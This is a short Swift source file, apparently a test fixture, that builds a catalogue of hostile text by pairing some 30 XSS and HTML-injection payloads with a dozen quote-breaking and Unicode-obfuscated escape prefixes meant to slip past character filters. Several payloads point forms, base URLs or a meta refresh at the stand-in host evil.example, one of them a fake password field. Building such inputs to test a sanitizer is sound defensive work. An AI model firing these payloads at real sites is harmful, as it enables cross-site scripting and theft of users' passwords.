/// Text that would like to be markup.
enum HostileText {
  /// What a stranger may put into any field: every idea alone, after each way out of the place where it may stand, and
  /// with marks that hide the way out from a filter that sees characters.
  static let all: [String] = ideas.flatMap { idea in exits.map { $0 + idea } }

  private static let ideas = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<iframe srcdoc='<script>1</script>'>", "<form action=https://evil.example><input name=password>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<style>*{x:expression(1)}</style>",
    "<a href=javascript:alert(1)>x</a>",
    " onfocus=alert(1) autofocus x=", " formaction=https://evil.example x=", "<!--", "--><b>", "]]><b>", "</title><b>",
    "</main><b>",
    "</form><form action=//evil.example>", "{{csrf}}", "{{{content}}}", "{{#providers}}x{{/providers}}",
    "{{% CONTENT_TYPE:TEXT}}<b>",
    "&lt;b&gt;", "&#60;b&#62;", "javascript:alert(1)", "\u{FF1C}b\u{FF1E}", "<b\u{0}>", "<\u{301}b>", "%3Cb%3E",
    "\\u003cb>",
  ]

  private static let exits = [
    "", "\">", "'>", "\"\u{301} ", "\"\u{20DD}", "'\u{301} ", ">\u{301}", "`", "\r\n\r\n", "\u{202E}\">", "\"\u{200D}>",
    String(repeating: "x", count: 120) + "\">",
  ]
}
